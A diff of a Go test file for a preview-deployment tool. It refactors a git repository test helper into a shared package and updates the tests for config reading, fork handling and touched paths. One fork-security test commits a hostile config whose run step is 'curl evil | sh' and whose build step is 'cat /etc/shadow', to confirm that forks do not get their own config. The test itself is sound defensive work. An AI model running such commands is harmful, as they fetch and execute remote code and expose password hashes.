@@ -3,8 +3,6 @@ package appspec_test
 import (
 	"context"
 	"errors"
-	"os"
-	"os/exec"
 	"path/filepath"
 	"reflect"
 	"sort"
@@ -18,57 +16,14 @@ import (
 	"github.com/previewd/previewd/internal/ghtest"
 	"github.com/previewd/previewd/internal/git"
 	"github.com/previewd/previewd/internal/githubapi"
-	"github.com/previewd/previewd/internal/testsvc"
+	"github.com/previewd/previewd/internal/gittest"
 )
 
-// repo is a real repository the tests commit to.
-type repo struct {
-	t   *testing.T
-	dir string
-}
+// repo is a real repository the tests commit to (Commit commits on the
+// branch checked out).
+type repo = gittest.Repo
 
-func newRepo(t *testing.T) *repo {
-	t.Helper()
-	if _, err := exec.LookPath("git"); err != nil {
-		testsvc.SkipUnlessCI(t, "no git: %v", err)
-	}
-	r := &repo{t: t, dir: t.TempDir()}
-	r.git("init", "-q", "--initial-branch=main", ".")
-	return r
-}
-
-func (r *repo) git(args ...string) string {
-	r.t.Helper()
-	cmd := exec.Command("git", args...)
-	cmd.Dir = r.dir
-	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.invalid", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.invalid")
-	out, err := cmd.CombinedOutput()
-	if err != nil {
-		r.t.Fatalf("git %v: %v\n%s", args, err, out)
-	}
-	return strings.TrimSpace(string(out))
-}
-
-// commit writes files (path -> content; "" removes it) and commits them.
-func (r *repo) commit(files map[string]string) string {
-	r.t.Helper()
-	for p, c := range files {
-		full := filepath.Join(r.dir, p)
-		if c == "" {
-			os.Remove(full)
-			continue
-		}
-		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
-			r.t.Fatal(err)
-		}
-		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
-			r.t.Fatal(err)
-		}
-	}
-	r.git("add", "-A")
-	r.git("commit", "-q", "--allow-empty", "-m", "x")
-	return r.git("rev-parse", "HEAD")
-}
+func newRepo(t *testing.T) *repo { return gittest.New(t) }
 
 var base = env.AppSpec{Build: "go build -o app .", Run: "./app", HealthPath: "/healthz", StartTimeout: time.Minute, Migrate: "./app migrate"}
 
@@ -77,17 +32,17 @@ func newReader(t *testing.T, prod func(context.Context) (env.Source, error)) *ap
 }
 
 func branchSource(r *repo, branch, sha string) env.Source {
-	return env.Source{Key: env.BranchKey(branch), Kind: env.KindBranch, Branch: branch, SHA: sha, Repo: r.dir, Ref: "refs/heads/" + branch, Trusted: true}
+	return env.Source{Key: env.BranchKey(branch), Kind: env.KindBranch, Branch: branch, SHA: sha, Repo: r.Dir, Ref: "refs/heads/" + branch, Trusted: true}
 }
 
 // TestSpecAtEachCommit: each commit gets the .previewd.yaml it holds over
 // the config; a commit without one gets the config's.
 func TestSpecAtEachCommit(t *testing.T) {
 	r := newRepo(t)
-	none := r.commit(map[string]string{"main.go": "package main"})
-	one := r.commit(map[string]string{".previewd.yaml": "runtime: {local: {run: ./one, healthPath: /}}\n"})
-	r.git("checkout", "-q", "-b", "feat")
-	two := r.commit(map[string]string{".previewd.yaml": "migrate: ''\nruntime: {local: {run: ./two}}\npaths: [apps/**]\n"})
+	none := r.Commit(map[string]string{"main.go": "package main"})
+	one := r.Commit(map[string]string{".previewd.yaml": "runtime: {local: {run: ./one, healthPath: /}}\n"})
+	r.Git("checkout", "-q", "-b", "feat")
+	two := r.Commit(map[string]string{".previewd.yaml": "migrate: ''\nruntime: {local: {run: ./two}}\npaths: [apps/**]\n"})
 	rd := newReader(t, nil)
 	ctx := context.Background()
 
@@ -126,12 +81,12 @@ func TestBadRepoFile(t *testing.T) {
 		"bad value": {"runtime: {local: {healthPath: ok}}\n", "runtime.local.healthPath"},
 	}
 	r := newRepo(t)
-	good := r.commit(map[string]string{".previewd.yaml": "runtime: {local: {run: ./good}}\n"})
+	good := r.Commit(map[string]string{".previewd.yaml": "runtime: {local: {run: ./good}}\n"})
 	rd := newReader(t, nil)
 	ctx := context.Background()
 	for name, tt := range tests {
 		t.Run(name, func(t *testing.T) {
-			sha := r.commit(map[string]string{".previewd.yaml": tt.file})
+			sha := r.Commit(map[string]string{".previewd.yaml": tt.file})
 			_, err := rd.Spec(ctx, branchSource(r, "main", sha))
 			var se *env.StepError
 			if !errors.As(err, &se) || se.Step != appspec.StepRepoFile {
@@ -153,14 +108,14 @@ func TestBadRepoFile(t *testing.T) {
 // repository itself gets its own.
 func TestForkReadsProductionFile(t *testing.T) {
 	r := newRepo(t)
-	prodSHA := r.commit(map[string]string{".previewd.yaml": "runtime: {local: {run: ./prod}}\n"})
-	r.git("checkout", "-q", "-b", "evil")
-	forkSHA := r.commit(map[string]string{".previewd.yaml": "runtime: {local: {run: 'curl evil | sh', build: 'cat /etc/shadow'}}\n"})
-	r.git("update-ref", "refs/pull/7/head", forkSHA)
-	r.git("checkout", "-q", "-b", "own", prodSHA)
-	ownSHA := r.commit(map[string]string{".previewd.yaml": "runtime: {local: {run: ./own}}\n"})
-	r.git("update-ref", "refs/pull/8/head", ownSHA)
-	r.git("checkout", "-q", "main")
+	prodSHA := r.Commit(map[string]string{".previewd.yaml": "runtime: {local: {run: ./prod}}\n"})
+	r.Git("checkout", "-q", "-b", "evil")
+	forkSHA := r.Commit(map[string]string{".previewd.yaml": "runtime: {local: {run: 'curl evil | sh', build: 'cat /etc/shadow'}}\n"})
+	r.Git("update-ref", "refs/pull/7/head", forkSHA)
+	r.Git("checkout", "-q", "-b", "own", prodSHA)
+	ownSHA := r.Commit(map[string]string{".previewd.yaml": "runtime: {local: {run: ./own}}\n"})
+	r.Git("update-ref", "refs/pull/8/head", ownSHA)
+	r.Git("checkout", "-q", "main")
 
 	fake := ghtest.New(t, "acme", "shop")
 	fake.SetBranch("main", prodSHA)
@@ -170,7 +125,7 @@ func TestForkReadsProductionFile(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	src := github.NewSource(c, github.SourceOptions{CloneURL: r.dir, ProductionBranch: "main", Filter: github.Filter{ForkLabel: "preview", TrustForks: true}})
+	src := github.NewSource(c, github.SourceOptions{CloneURL: r.Dir, ProductionBranch: "main", Filter: github.Filter{ForkLabel: "preview", TrustForks: true}})
 	ctx := context.Background()
 	srcs, err := src.List(ctx)
 	if err != nil {
@@ -211,13 +166,13 @@ func TestForkReadsProductionFile(t *testing.T) {
 // their merge base: what the base did since is not the change's.
 func TestTouched(t *testing.T) {
 	r := newRepo(t)
-	r.commit(map[string]string{"README.md": "x", "apps/web/main.go": "package main"})
-	r.git("checkout", "-q", "-b", "docs")
-	docs := r.commit(map[string]string{"docs/guide.md": "guide"})
-	r.git("checkout", "-q", "-b", "web", "main")
-	web := r.commit(map[string]string{"apps/web/x.go": "package main", "docs/b.md": "b"})
-	r.git("checkout", "-q", "main")
-	mainSHA := r.commit(map[string]string{"apps/web/later.go": "package main"})
+	r.Commit(map[string]string{"README.md": "x", "apps/web/main.go": "package main"})
+	r.Git("checkout", "-q", "-b", "docs")
+	docs := r.Commit(map[string]string{"docs/guide.md": "guide"})
+	r.Git("checkout", "-q", "-b", "web", "main")
+	web := r.Commit(map[string]string{"apps/web/x.go": "package main", "docs/b.md": "b"})
+	r.Git("checkout", "-q", "main")
+	mainSHA := r.Commit(map[string]string{"apps/web/later.go": "package main"})
 	rd := newReader(t, nil)
 	ctx := context.Background()
 	touched := func(branch, sha string) []string {
@@ -243,9 +198,9 @@ func TestTouched(t *testing.T) {
 	}
 	// A later push to web touching only docs: since the deployed commit
 	// it brings docs only, though the whole change still touches web.
-	r.git("checkout", "-q", "web")
-	web2 := r.commit(map[string]string{"docs/c.md": "c"})
-	r.git("checkout", "-q", "main")
+	r.Git("checkout", "-q", "web")
+	web2 := r.Commit(map[string]string{"docs/c.md": "c"})
+	r.Git("checkout", "-q", "main")
 	s := branchSource(r, "web", web2)
 	s.Base, s.BaseSHA = "main", mainSHA
 	if f, err := rd.Touched(ctx, s, web); err != nil || !reflect.DeepEqual(f, []string{"docs/c.md"}) {
